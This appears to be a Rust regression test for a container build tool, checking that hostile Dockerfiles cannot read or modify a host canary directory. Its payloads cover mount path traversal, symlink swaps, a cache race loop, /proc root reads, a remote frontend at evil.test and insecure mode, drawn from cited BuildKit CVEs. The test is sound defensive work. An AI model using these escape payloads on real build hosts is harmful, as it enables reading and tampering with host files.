//! Dockerfiles that try to reach the host: what was found in other builders (CVE-2024-23650 to 23653, 2024-9675, 2026-33747, 2026-33748).

use std::path::Path;

use sha2::{Digest, Sha256};

use super::compose;
use crate::support::World;

/// What no image, log or message may hold.
const FLAG: &str = "flag-of-the-host-7b1c";

/// What does not even run, or ends with an error of its own: there is nothing at such a path inside, the right is missing, a directory with
/// a mount in it cannot be moved away, a frontend is somebody else's program.
const REFUSED: [&str; 8] = [
    "bind-source-dots",
    "bind-from-dots",
    "bind-source-link",
    "copy-dots",
    "copy-from-link",
    "tidy-through-a-link",
    "frontend",
    "security",
];

/// A directory of the host that builds know the path of, and that must stay as it is.
struct Canary {
    path: String,
    sum: String,
}

impl Canary {
    fn new(world: &World) -> Self {
        let path = world.project().join("../canary");
        fs_err::create_dir_all(path.join("b/c")).unwrap();
        fs_err::write(path.join("flag"), FLAG).unwrap();
        fs_err::write(path.join("b/c/file"), FLAG).unwrap();
        let path = fs_err::canonicalize(path).unwrap();
        Self {
            sum: sum(&path),
            path: path.display().to_string(),
        }
    }

    #[track_caller]
    fn check(&self, world: &World, what: &str) {
        assert_eq!(
            sum(Path::new(&self.path)),
            self.sum,
            "{what}: the host was changed"
        );
        let mut found = Vec::new();
        holds(&world.root().join("layers"), &mut found);
        holds(&world.root().join("build"), &mut found);
        assert!(found.is_empty(), "{what}: the host was read: {found:?}");
    }
}

/// Digests names, modes, times and contents.
fn sum(path: &Path) -> String {
    use std::os::unix::fs::MetadataExt;
    let mut text = String::new();
    let mut pending = vec![path.to_owned()];
    while let Some(path) = pending.pop() {
        let stat = fs_err::symlink_metadata(&path).unwrap();
        let (mode, uid, time) = (stat.mode(), stat.uid(), stat.mtime_nsec());
        text += &format!("{} {mode:o} {uid} {time}\n", path.display());
        if stat.is_dir() {
            let mut names: Vec<_> = fs_err::read_dir(&path)
                .unwrap()
                .map(|entry| entry.unwrap().path())
                .collect();
            names.sort();
            pending.extend(names);
        } else {
            text += &fs_err::read_to_string(&path).unwrap();
        }
    }
    format!("{:x?}", Sha256::digest(text))
}

/// Collects files that hold the flag.
fn holds(directory: &Path, found: &mut Vec<String>) {
    for entry in fs_err::read_dir(directory).into_iter().flatten() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            holds(&entry.path(), found);
        } else if kind.is_file() {
            let bytes = fs_err::read(entry.path()).unwrap();
            if bytes
                .windows(FLAG.len())
                .any(|part| part == FLAG.as_bytes())
            {
                found.push(entry.path().display().to_string());
            }
        }
    }
}

/// Returns hostile Dockerfiles by name; `@` is the path of the canary.
fn dockerfiles() -> Vec<(&'static str, String)> {
    let copy = "for f in /m/flag /m/b/c/file /m/*; do busybox cat $f >>/seen; echo x >>$f; done 2>/dev/null; true";
    vec![
        ("cache-below-a-link", "FROM busybox\nRUN busybox ln -s @ /link\nRUN --mount=type=cache,target=/link/b busybox cp /link/flag /seen; echo x >/link/b/c/file; true\n".to_owned()),
        ("cache-on-a-link", format!("FROM busybox\nRUN busybox ln -s @ /m\nRUN --mount=type=cache,target=/m {copy}\n")),
        ("bind-source-dots", format!("FROM busybox\nRUN --mount=type=bind,source=../../../../../../../..@,target=/m,rw {copy}\n")),
        ("bind-from-dots", format!("FROM busybox AS a\nFROM busybox\nRUN --mount=type=bind,from=a,source=../../../../../../..@,target=/m,rw {copy}\n")),
        ("bind-source-link", format!("FROM busybox AS a\nRUN busybox ln -s @ /out\nFROM busybox\nRUN --mount=type=bind,from=a,source=/out,target=/m,rw {copy}\n")),
        ("cache-id-dots", format!("FROM busybox\nRUN --mount=type=cache,id=../../../../../../../../..@,target=/m {copy}\n")),
        ("cache-id-absolute", format!("FROM busybox\nRUN --mount=type=cache,id=@,target=/m {copy}\n")),
        ("secret-target-dots", "FROM busybox\nRUN --mount=type=secret,id=none,target=/../../../..@/flag busybox cat @/flag >/seen; true\n".to_owned()),
        ("copy-dots", "FROM busybox\nCOPY ../../canary/flag /seen\n".to_owned()),
        ("copy-from-link", "FROM busybox AS a\nRUN busybox ln -s @ /out\nFROM busybox\nCOPY --from=a /out/flag /seen\n".to_owned()),
        ("copy-onto-link", "FROM busybox\nRUN busybox ln -s @ /out\nCOPY compose.yaml /out/flag\n".to_owned()),
        ("workdir-onto-link", "FROM busybox\nRUN busybox ln -s @ /out\nWORKDIR /out/b/new\nRUN echo x >file\n".to_owned()),
        // The place where a mount was is swapped for a link: whoever tidies up afterwards must not follow it.
        ("tidy-through-a-link", "FROM busybox\nRUN --mount=type=tmpfs,target=/a/b/c busybox mv /a /z && busybox ln -s @ /a\n".to_owned()),
        ("tidy-with-resolv-conf", "FROM busybox\nRUN busybox mv /etc /old && busybox mkdir @ -p; busybox ln -s @ /etc; true\n".to_owned()),
        ("frontend", "# syntax=evil.test/frontend:1\nFROM busybox\nRUN busybox cat @/flag >/seen; true\n".to_owned()),
        ("security", format!("FROM busybox\nRUN --security=insecure {copy}\n")),
        ("proc-root", "FROM busybox\nRUN for p in /proc/[0-9]*; do busybox cat $p/root@/flag $p/cwd@/flag; done >/seen 2>/dev/null; busybox cat /proc/self/mountinfo >/dev/null; true\n".to_owned()),
    ]
}

#[test]
fn nothing_of_the_host_is_read_or_changed() {
    let world = World::new("services: {}");
    let canary = Canary::new(&world);
    let mut refused = Vec::new();
    for (name, dockerfile) in dockerfiles() {
        // `$` would be a variable of the Compose file.
        let dockerfile = dockerfile.replace('@', &canary.path).replace('$', "$$");
        world.write("compose.yaml", &compose(&[("web", &dockerfile)]));
        let output = world.stack(&["--progress", "plain", "build"]);
        assert!(!output.stderr.contains(FLAG), "{name}: {}", output.stderr);
        match output.code {
            0 => {}
            4 => refused.push(name),
            _ => panic!("{name}: {output:?}"),
        }
        canary.check(&world, name);
    }
    // The others run, and find nothing.
    assert_eq!(refused, REFUSED);
    world.finish();
}

#[test]
fn a_link_that_is_swapped_in_a_shared_cache_leads_nowhere() {
    let world = World::new("services: {}");
    let canary = Canary::new(&world);
    let swap = "FROM busybox AS swap\nRUN --mount=type=cache,id=x,target=/c n=0; while [ $n -lt 3000 ]; do busybox mkdir -p /c/sub; busybox rmdir /c/sub; busybox ln -s @ /c/sub; busybox rm /c/sub; n=$((n+1)); done\n";
    let mut dockerfile = swap.to_owned();
    let mut names = Vec::new();
    for number in 0..12 {
        dockerfile += &format!(
            "FROM busybox AS use{number}\nRUN --mount=type=cache,id=x,source=sub,target=/m busybox cat /m/flag /m/b/c/file >/seen{number} 2>/dev/null; echo x >/m/flag; true\n"
        );
        names.push(format!("COPY --from=use{number} /seen{number} /\n"));
    }
    dockerfile += &format!(
        "FROM busybox\nCOPY --from=swap /bin/busybox /s\n{}",
        names.concat()
    );
    let dockerfile = dockerfile.replace('@', &canary.path).replace('$', "$$");
    world.write("compose.yaml", &compose(&[("web", &dockerfile)]));
    // A race that is lost may fail the step, which is no harm; a dozen more tries then.
    for _ in 0..3 {
        let output = world.stack(&["--progress", "plain", "build"]);
        assert!(matches!(output.code, 0 | 4), "{output:?}");
        canary.check(&world, "swapped");
    }
    world.finish();
}
